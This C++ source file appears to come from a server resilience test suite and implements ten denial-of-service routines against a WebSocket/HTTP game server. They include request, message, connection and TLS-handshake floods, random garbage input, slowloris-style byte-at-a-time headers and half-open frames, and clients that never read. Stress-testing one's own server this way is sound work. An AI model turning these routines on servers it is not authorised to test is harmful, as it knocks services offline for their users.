#include "attacker/attacks.h"

#include <array>
#include <chrono>
#include <random>
#include <string>
#include <thread>
#include <vector>

#include "attacker/raw_socket.h"

namespace fusillade::test {
namespace {

constexpr auto breath = std::chrono::milliseconds(1);

std::string random_bytes(std::mt19937& random, std::size_t length) {
  std::string bytes(length, '\0');
  for (char& byte : bytes) byte = static_cast<char>(random());
  return bytes;
}

RawSocket connect(const Target& target) { return {target.port, target.source, target.layer}; }
RawSocket connect_plainly(const Target& target) { return {target.port, target.source}; }

// Connected and upgraded; closed where the server did not let it.
RawSocket open_session(const Target& target) {
  RawSocket socket = connect(target);
  socket.send(upgrade_request());
  if (socket.receive().find(" 101 ") == std::string::npos) socket.reset();
  return socket;
}

RawSocket join(const Target& target) {
  RawSocket socket = open_session(target);
  socket.send(frame_of(hello_message()));
  return socket;
}

// Connects, lets `once` do its worst, and again.
template <typename Open, typename Once>
std::int64_t again_and_again(const Target& target, Open open, Once once) {
  std::int64_t count = 0;
  for (; !target.is_over; ++count) {
    RawSocket socket = open(target);
    once(socket);
    std::this_thread::sleep_for(breath);
  }
  return count;
}

std::int64_t garbage_http(const Target& target) {
  std::mt19937 random(target.seed);
  return again_and_again(target, connect, [&](RawSocket& socket) {
    socket.send(random_bytes(random, 1 + random() % 9000));
    socket.receive();
  });
}

// Sent at once, so that even a process that hardly gets a processor asks for more than a limit per second.
constexpr int repeats_per_flood = 512;

std::string flood_of(const std::string& one) {
  std::string many;
  for (int i = 0; i < repeats_per_flood; ++i) many += one;
  return many;
}

// Every other time within frames, so that it is garbage of the game and not of WebSocket.
std::int64_t garbage_messages(const Target& target) {
  std::mt19937 random(target.seed);
  return again_and_again(target, open_session, [&](RawSocket& socket) {
    const std::string garbage = random_bytes(random, 1 + random() % 5000);
    socket.send(random() % 2 == 0 ? garbage : frame_of(garbage));
    socket.receive();
  });
}

// Of frames that nobody answers: whose answers wait is sent away as too slow, often before it is too fast.
std::int64_t message_flood(const Target& target) {
  const std::string pongs = flood_of(pong_frame());
  return again_and_again(target, join, [&](RawSocket& socket) {
    while (socket.send(pongs) && !target.is_over) continue;
  });
}

// On the same connection, however long the answers are.
std::int64_t request_flood(const Target& target) {
  const std::string requests = flood_of("GET /v1/matches HTTP/1.1\r\nHost: x\r\n\r\n");
  return again_and_again(target, connect, [&](RawSocket& socket) {
    while (socket.send(requests) && !target.is_over) socket.receive();
  });
}

std::int64_t connection_flood(const Target& target) {
  std::int64_t count = 0;
  for (; !target.is_over; ++count) connect_plainly(target).reset();
  return count;
}

std::int64_t handshake_flood(const Target& target) {
  std::int64_t count = 0;
  for (; !target.is_over; ++count) connect(target).reset();
  return count;
}

// As many connections as it gets, each kept and fed by `feed` until the server ends it.
template <typename Open, typename Feed>
std::int64_t keep_many(const Target& target, Open open, Feed feed) {
  constexpr std::size_t kept_max = 200;
  std::vector<RawSocket> kept;
  std::int64_t count = 0;
  while (!target.is_over) {
    for (; kept.size() < kept_max && !target.is_over; ++count) kept.push_back(open(target));
    for (RawSocket& socket : kept) feed(socket);
    std::erase_if(kept, [](const RawSocket& socket) { return !socket.is_open(); });
    std::this_thread::sleep_for(20 * breath);
  }
  return count;
}

// A header that never ends, a byte at a time.
std::int64_t slow_header(const Target& target) {
  return keep_many(target, connect, [](RawSocket& socket) { socket.send("G"); });
}

// A first message of TLS that never ends, a byte at a time.
std::int64_t half_handshake(const Target& target) {
  const auto open = [](const Target& at) {
    RawSocket socket = connect_plainly(at);
    socket.send(std::string_view("\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03", 11));
    return socket;
  };
  return keep_many(target, open, [](RawSocket& socket) { socket.send("?"); });
}

// Upgraded, and then one message of 1,000 bytes, a byte at a time.
std::int64_t half_open(const Target& target) {
  const auto open = [](const Target& at) {
    RawSocket socket = open_session(at);
    socket.send("\x82\xFE\x03\xE8mask");
    return socket;
  };
  return keep_many(target, open, [](RawSocket& socket) { socket.send("?"); });
}

std::int64_t never_reads(const Target& target) {
  const std::string ping = frame_of(ping_message());
  return keep_many(target, join, [&](RawSocket& socket) { socket.send(ping); });
}

constexpr std::size_t over_tls_only = 2;  // the last ones
constexpr std::array<Attack, 10> all{{{"garbage_http", garbage_http},
                                      {"request_flood", request_flood},
                                      {"garbage_messages", garbage_messages},
                                      {"message_flood", message_flood},
                                      {"connection_flood", connection_flood},
                                      {"slow_header", slow_header},
                                      {"half_open", half_open},
                                      {"never_reads", never_reads},
                                      {"handshake_flood", handshake_flood},
                                      {"half_handshake", half_handshake}}};

}  // namespace

std::span<const Attack> attacks(Layer layer) {
  return std::span(all).first(layer == Layer::tls ? all.size() : all.size() - over_tls_only);
}

}  // namespace fusillade::test
